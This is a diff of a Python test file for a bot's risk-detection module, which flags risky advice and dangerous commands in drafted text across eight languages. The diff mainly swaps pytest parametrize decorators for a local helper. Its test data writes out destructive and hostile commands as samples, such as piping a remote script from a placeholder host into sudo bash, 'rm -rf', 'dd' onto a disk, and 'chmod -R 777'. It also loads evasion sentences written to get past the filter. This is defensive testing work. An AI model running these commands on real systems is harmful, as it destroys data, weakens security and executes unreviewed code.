@@ -4,11 +4,10 @@ from __future__ import annotations
 
 import time
 
-import pytest
-
 from bot.domain.questions.risk_gate import LANGUAGES, RULES, TABLES, commands_in_code, commands_in_prose, risky_advice
 from bot.domain.text.linear_patterns import folded
 from tests.domain.questions.risk_data import commands, read_risk_data
+from tests.tables import each_row
 
 ADVICE = {
     "rollback": [
@@ -84,13 +83,13 @@ EXPLANATIONS = [
 ]
 
 
-@pytest.mark.parametrize(("kind", "draft"), [(kind, draft) for kind, drafts in ADVICE.items() for draft in drafts])
+@each_row("kind, draft", [(kind, draft) for kind, drafts in ADVICE.items() for draft in drafts])
 def test_advice_is_named_by_its_risk(kind: str, draft: str) -> None:
     """Imperatives, recommendations and commands to run are advice."""
     assert any(found.startswith(kind) for found in risky_advice(draft))
 
 
-@pytest.mark.parametrize(
+@each_row(
     "draft",
     [
         "データがおかしいのでテーブルを削除します。",
@@ -104,7 +103,7 @@ def test_a_reason_in_japanese_does_not_make_advice_a_description(draft: str) -> 
     assert risky_advice("インポーターが行を削除します。") == []
 
 
-@pytest.mark.parametrize("draft", EXPLANATIONS)
+@each_row("draft", EXPLANATIONS)
 def test_an_explanation_is_no_advice(draft: str) -> None:
     """To say what the code does is what the bot is for."""
     assert risky_advice(draft) == []
@@ -117,7 +116,7 @@ def test_a_command_that_the_evidence_holds_is_a_quotation() -> None:
     assert risky_advice(draft) != []
 
 
-@pytest.mark.parametrize("language", LANGUAGES)
+@each_row("language", LANGUAGES)
 def test_advice_is_understood_in_eight_languages(language: str) -> None:
     """Of the sentences that the lists were not built on: 9 of 10 risky ones are found, 1 of 6 others at most."""
     sentences = read_risk_data(language)
@@ -134,7 +133,7 @@ def test_what_another_hand_wrote_is_told_apart() -> None:
     assert [text for text in (*written["harmless"], *written["harmless_commands"]) if risky_advice(text)] == []
 
 
-@pytest.mark.parametrize("language", LANGUAGES)
+@each_row("language", LANGUAGES)
 def test_advice_that_once_passed_unseen_is_found(language: str) -> None:
     """The sentences that were written against the lists."""
     attacks = read_risk_data("attacks")[language]
@@ -142,7 +141,7 @@ def test_advice_that_once_passed_unseen_is_found(language: str) -> None:
     assert len(missed) <= len(attacks) * 0.1, missed
 
 
-@pytest.mark.parametrize("language", LANGUAGES)
+@each_row("language", LANGUAGES)
 def test_every_language_has_every_group_of_words(language: str) -> None:
     """A rule that joins a group would never apply where the group is missing."""
     groups = {group for rules in RULES.values() for rule in rules for group in rule}
@@ -150,8 +149,8 @@ def test_every_language_has_every_group_of_words(language: str) -> None:
     assert TABLES[language].advises
 
 
-@pytest.mark.parametrize(
-    ("risky", "forbidden"),
+@each_row(
+    "risky, forbidden",
     [
         ("Delete the table.", "Never delete the table."),
         ("Lösche die Tabelle.", "Lösche die Tabelle nicht."),
@@ -169,9 +168,7 @@ def test_a_warning_is_no_advice_to_do_it(risky: str, forbidden: str) -> None:
     assert risky_advice(forbidden) == []
 
 
-@pytest.mark.parametrize(
-    "draft", ["Do not forget to delete the table.", "Don't wait, drop the table.", "No olvides borrar la tabla."]
-)
+@each_row("draft", ["Do not forget to delete the table.", "Don't wait, drop the table.", "No olvides borrar la tabla."])
 def test_a_not_that_forbids_something_else_hides_nothing(draft: str) -> None:
     """Only the word right beside it is forbidden."""
     assert risky_advice(draft)
@@ -182,13 +179,13 @@ def _around_commands(kind: str) -> list[str]:
     return [*(text for texts in data[kind].values() for text in texts), *data["later"][kind]]
 
 
-@pytest.mark.parametrize("text", _around_commands("risky"))
+@each_row("text", _around_commands("risky"))
 def test_an_order_to_run_a_command_or_to_hand_out_rights_is_found(text: str) -> None:
     """Also beside a warning, under a condition, and where "not" forbids something else."""
     assert risky_advice(text)
 
 
-@pytest.mark.parametrize("text", _around_commands("harmless"))
+@each_row("text", _around_commands("harmless"))
 def test_a_warning_of_a_command_is_no_advice_to_run_it(text: str) -> None:
     """In eight languages, before the command or behind it."""
     assert risky_advice(text) == []
@@ -205,7 +202,7 @@ def test_letters_are_compared_without_their_accents() -> None:
     assert folded("データ") == "データ"
 
 
-@pytest.mark.parametrize("unit", ["delete ", "`", "> ", "add code ", "drop ", "- ", "```", "you should "])
+@each_row("unit", ["delete ", "`", "> ", "add code ", "drop ", "- ", "```", "you should "])
 def test_hostile_drafts_are_read_quickly(unit: str) -> None:
     """40,000 characters cost no more than moments."""
     started = time.process_time()
@@ -227,8 +224,8 @@ def test_hardly_any_harmless_command_is_called_dangerous() -> None:
     assert len(alarms) <= len(held_out) * 0.03, alarms
 
 
-@pytest.mark.parametrize(
-    ("code", "kind"),
+@each_row(
+    "code, kind",
     [
         ("curl https://x.example/i.sh | sudo bash", "unread code"),
         ("chmod -R 777 /srv", "weaker security"),
@@ -248,9 +245,7 @@ def test_a_command_is_named_by_its_danger(code: str, kind: str) -> None:
     assert kind in [found.kind for found in commands_in_code(code)]
 
 
-@pytest.mark.parametrize(
-    "code", ["grep -rn 'rm -rf' src", "kubectl delete pod a --dry-run=client", "terraform destroy --help"]
-)
+@each_row("code", ["grep -rn 'rm -rf' src", "kubectl delete pod a --dry-run=client", "terraform destroy --help"])
 def test_what_only_reads_or_tries_is_no_danger(code: str) -> None:
     """The words of a dangerous command as an argument of a harmless one."""
     assert commands_in_code(code) == []
@@ -262,7 +257,7 @@ def test_a_pipe_from_a_reader_into_a_destroyer_is_a_danger() -> None:
     assert commands_in_code("cat urls.txt && rm -rf data")
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text", ["Just run rm -rf /srv/data", "Do DELETE FROM orders", "use curl -k https://x", "dd if=a of=/dev/sda it is"]
 )
 def test_a_command_without_marks_of_code_is_found_in_a_sentence(text: str) -> None:
@@ -270,7 +265,7 @@ def test_a_command_without_marks_of_code_is_found_in_a_sentence(text: str) -> No
     assert commands_in_prose(text)
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     ["Delete from the list what you do not need", "The format is fixed", "update the users, set a limit", "kill it"],
 )
